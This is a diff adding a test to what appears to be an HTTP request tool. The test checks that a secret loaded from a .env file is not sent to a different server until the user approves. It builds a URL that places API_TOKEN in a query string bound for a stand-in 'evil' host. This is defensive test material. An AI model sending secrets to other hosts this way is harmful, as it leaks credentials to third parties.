@@ -450,6 +450,26 @@ def test_what_a_request_asks_for_leads_no_secret_elsewhere(
         sends_to("http://{{?Host}}/", values, records, False)
 
 
+def test_a_secret_of_a_dotenv_file_goes_to_another_server_only_after_a_yes(
+    store: EnvironmentFiles, root: str
+) -> None:
+    """Row 37 of quality.md: git ignores the file, and a pulled URL is somebody else's."""
+    Path(root, ".env").write_text(f"API_TOKEN={CANARY}\nPLACE=a\nOLD_KEY=first\n")
+    own = plain(OLD_KEY="second")
+    store.create(root, Environment("Own", dotenv=".env", variables=own))
+    values, records = environment_values(store, root, "Own"), MemoryRecords()
+    assert [each.name for each in values.placed] == ["API_TOKEN"]
+    assert CANARY not in repr(values)
+    assert CANARY in scope_of((), {}, {}, values).secrets
+    url = "http://{}/{{{{PLACE}}}}/{{{{OLD_KEY}}}}?a={{{{API_TOKEN}}}}"
+    assert sends_to(url.format("good"), values, records) == []
+    assert sends_to("http://evil/{{PLACE}}/{{OLD_KEY}}", values, records) == []
+    with pytest.raises(PlacesRefused) as refused:
+        sends_to(url.format("evil"), values, records, False)
+    asked = NewPlaces("Own", ("origin http://good:80",), ("origin http://evil:80",), "API_TOKEN")
+    assert refused.value.question == asked
+
+
 def test_a_variable_of_the_system_goes_to_each_server_after_a_yes(
     store: EnvironmentFiles, root: str
 ) -> None:
